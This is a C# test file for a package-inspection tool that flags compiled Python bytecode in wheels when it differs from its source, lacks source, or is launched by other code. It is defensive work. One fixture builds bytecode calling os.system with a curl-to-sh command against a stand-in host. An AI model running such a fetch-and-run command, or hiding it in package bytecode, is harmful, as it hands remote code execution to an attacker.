using PackageWall.Inspection.Reports;
using PackageWall.Packages;
using PackageWall.Testing.Packages;
using PackageWall.Testing.PythonBytecode;

namespace PackageWall.Inspection.Tests.Catalogue;

/// <summary>Packages with compiled Python: beside its source, in place of it, and different from it (B29).</summary>
public sealed class CompiledPythonTests
{
    private const string Source = "import os\n\ndef folder():\n    return os.getcwd()\n";
    private const string Cached = "sample/__pycache__/core.cpython-312.pyc";

    private static InspectionReport Inspect(params (string Path, byte[] Content)[] files)
    {
        var wheel = new WheelBuilder("sample", "1.0.0").File("sample/__init__.py", "X = 1\n");
        files.ToList().ForEach(file => wheel.File(file.Path, file.Content));
        return CatalogueInspection.Of(Ecosystem.PyPi, "sample-1.0.0-py3-none-any.whl", wheel.Build());
    }

    private static byte[] Honest(int minor = 12) => Folder(minor).File();

    private static CompiledPython Folder(int minor) => new CompiledPython(minor).Import("os").Function("folder", new CompiledPython(minor).Call("os.getcwd"));

    private static byte[] Acting(byte flags = 0) => Folder(12).Call("os.system", "curl http://drop.invalid/x | sh").Drop().File(flags);

    private static byte[] Utf8(string text) => System.Text.Encoding.UTF8.GetBytes(text);

    [Fact]
    public void What_comes_of_its_source_is_clean()
    {
        var report = Inspect(("sample/core.py", Utf8(Source)), (Cached, Honest()), ("sample/__pycache__/core.cpython-39.pyc", Honest(9)));
        report.Verdict.ShouldBe(Verdict.Clean, CatalogueInspection.Told(report));
    }

    [Fact]
    public void What_can_do_more_than_its_source_is_malicious()
    {
        var report = Inspect(("sample/core.py", Utf8(Source)), (Cached, Acting()));
        report.Findings.ShouldContain(finding => finding.Rule == "compiled-python-differs", CatalogueInspection.Told(report));
        report.Verdict.ShouldBe(Verdict.Malicious);
    }

    [Fact]
    public void What_is_not_checked_against_its_source_is_malicious_and_said()
    {
        var report = Inspect(("sample/core.py", Utf8(Source)), (Cached, Folder(12).File(flags: 1)));
        report.Findings.ShouldContain(finding => finding.Rule == "compiled-python-differs" && finding.Says.Contains("pyc.unchecked", StringComparison.Ordinal), CatalogueInspection.Told(report));
    }

    [Fact]
    public void Harmless_code_without_source_is_noted()
    {
        var report = Inspect(("sample/core.pyc", Honest()));
        report.Verdict.ShouldBe(Verdict.Clean, CatalogueInspection.Told(report));
        report.Findings.ShouldContain(finding => finding.Rule == "compiled-python-only");
    }

    [Fact]
    public void Code_without_source_that_acts_is_malicious()
    {
        var report = Inspect(("sample/core.pyc", Acting()));
        report.Findings.ShouldContain(finding => finding.Rule == "compiled-python-acts-without-source", CatalogueInspection.Told(report));
        report.Verdict.ShouldBe(Verdict.Malicious);
    }

    [Fact]
    public void Code_without_source_that_acts_when_it_is_called_is_held()
    {
        var report = Inspect(("sample/core.pyc", new CompiledPython(13).Import("subprocess").Function("build", new CompiledPython(13).Callee("subprocess.run").Constant("make").Called(1)).File()));
        report.Findings.ShouldContain(finding => finding.Rule == "compiled-python-can-act-without-source", CatalogueInspection.Told(report));
        report.Verdict.ShouldBe(Verdict.Suspicious, CatalogueInspection.Told(report));
    }

    [Fact]
    public void Code_without_source_that_cannot_be_read_is_held()
    {
        var report = Inspect(("sample/core.pyc", Honest()[..^20]));
        report.Verdict.ShouldBe(Verdict.Suspicious, CatalogueInspection.Told(report));
        report.Inconclusive.ShouldNotBeEmpty();
    }

    [Fact]
    public void What_is_left_in_the_cache_without_its_source_never_runs()
    {
        var report = Inspect(("sample/core.py", Utf8(Source)), ("sample/__pycache__/gone.cpython-38.pyc", Acting()));
        report.Verdict.ShouldBe(Verdict.Clean, CatalogueInspection.Told(report));
    }

    [Theory]
    [InlineData("import runpy\nrunpy.run_path('sample/data/tool.bin.pyc')\n")]
    [InlineData("import subprocess, sys\nsubprocess.run([sys.executable, 'sample/data/tool.bin.pyc'])\n")]
    public void Code_that_live_code_starts_runs_with_it(string starter)
    {
        var report = Inspect(("sample/start.py", Utf8(starter)), ("sample/data/tool.bin.pyc", Acting()));
        report.Verdict.ShouldBe(Verdict.Malicious, CatalogueInspection.Told(report));
    }
}
